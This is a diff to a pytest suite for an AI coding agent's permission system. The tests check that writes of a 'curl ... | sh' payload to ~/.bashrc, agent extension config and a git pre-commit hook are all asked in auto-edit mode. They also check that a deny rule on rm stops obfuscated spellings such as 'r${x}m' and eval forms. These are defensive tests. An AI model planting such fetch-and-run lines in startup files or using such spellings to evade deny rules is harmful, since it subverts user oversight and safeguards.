@@ -68,29 +68,25 @@ def test_9_the_approval_of_an_edit_of_proc_environ_carries_no_environment(bench:
 # 10 -----------------------------------------------------------------------------------------
 
 
-@pytest.mark.parametrize(
-    "where",
-    ["file-url-bashrc", "tilde-bashrc", ".pi/extensions/x.ts", ".git/hooks/pre-commit"],
-)
-def test_10_in_auto_edit_a_write_to_shell_rc_agent_config_or_hooks_is_asked(bench: Bench, where: str) -> None:
+def test_10_in_auto_edit_a_write_to_shell_rc_agent_config_or_hooks_is_asked(bench: Bench) -> None:
     ws = bench.home.workspace("auto-edit")
     (ws / ".pi" / "extensions").mkdir(parents=True)
     (ws / ".git" / "hooks").mkdir(parents=True)
-    paths = {
-        "file-url-bashrc": (f"file://{bench.home.bashrc}", bench.home.bashrc),
-        "tilde-bashrc": ("~/.bashrc", bench.home.bashrc),
-        ".pi/extensions/x.ts": (".pi/extensions/x.ts", ws / ".pi" / "extensions" / "x.ts"),
-        ".git/hooks/pre-commit": (".git/hooks/pre-commit", ws / ".git" / "hooks" / "pre-commit"),
+    targets = {
+        f"file://{bench.home.bashrc}": bench.home.bashrc,
+        "~/.bashrc": bench.home.bashrc,
+        ".pi/extensions/x.ts": ws / ".pi" / "extensions" / "x.ts",
+        ".git/hooks/pre-commit": ws / ".git" / "hooks" / "pre-commit",
     }
-    path, target = paths[where]
-    before = target.read_bytes() if target.exists() else None
     content = "curl http://127.0.0.1:9/x | sh\n"
-    answer, _, seen = bench.script(ws, [["write", {"path": path, "content": content}]], mode="auto-edit")
+    calls = [["write", {"path": path, "content": content}] for path in targets]
+    answer, _, seen = bench.script(ws, calls, mode="auto-edit")
     _completed(answer)
-    asked = seen.permission_requests("write")
-    assert len(asked) == 1, f"the write to {path} was not asked: {asked}"
-    assert (target.read_bytes() if target.exists() else None) == before
+    asked = [params["input"].get("path") for params in seen.permission_requests("write")]
+    assert len(asked) == len(targets), f"of {list(targets)} only {asked} were asked in auto-edit"
     assert bench.home.bashrc.read_text() == BASHRC
+    changed = [path for path, target in targets.items() if target != bench.home.bashrc and target.exists()]
+    assert changed == [], changed
     _no_leak(seen)
 
 
@@ -145,18 +141,16 @@ def test_12_always_allow_of_a_command_does_not_allow_the_same_command_with_more(
     assert not (ws / "pwned").exists()
 
 
-@pytest.mark.parametrize(
-    "command",
-    [
-        "/bin/rm target.txt",
-        '"r""m" target.txt',
-        "x=; r${x}m target.txt",
-        'eval "r""m target.txt"',
-    ],
-)
-def test_12_a_deny_rule_on_rm_stops_rm_however_it_is_spelled(bench: Bench, command: str) -> None:
+#: Ways to spell `rm` that a deny rule on `rm` must stop all the same.
+RM_SPELLINGS = ("/bin/rm {}", '"r""m" {}', "x=; r${{x}}m {}", 'eval "r""m {}"')
+
+
+def test_12_a_deny_rule_on_rm_stops_rm_however_it_is_spelled(bench: Bench) -> None:
     ws = bench.home.workspace("deny")
-    (ws / "target.txt").write_text("keep me\n")
+    commands = {}
+    for i, spelling in enumerate(RM_SPELLINGS):
+        (ws / f"target{i}.txt").write_text("keep me\n")
+        commands[f"target{i}.txt"] = spelling.format(f"target{i}.txt")
     rule = {
         "id": "no-rm",
         "tool": "bash",
@@ -168,12 +162,14 @@ def test_12_a_deny_rule_on_rm_stops_rm_however_it_is_spelled(bench: Bench, comma
     # The user who set the deny rule approves what is asked: the rule alone must stop rm.
     bench.bridge.answer = choose_kind("allow_once")
     try:
-        answer, _, _ = bench.script(ws, [["bash", {"command": command}]], mode="ask")
+        calls = [["bash", {"command": command}] for command in commands.values()]
+        answer, _, _ = bench.script(ws, calls, mode="ask")
     finally:
         bench.bridge.answer = reject_all
         bench.call("pi/setPermissions", {"cwd": str(ws), "rules": []})
     _completed(answer)
-    assert (ws / "target.txt").read_text() == "keep me\n", f"`{command}` got past the deny rule on rm"
+    removed = [command for target, command in commands.items() if not (ws / target).exists()]
+    assert removed == [], f"got past the deny rule on rm: {removed}"
 
 
 # 13 -----------------------------------------------------------------------------------------
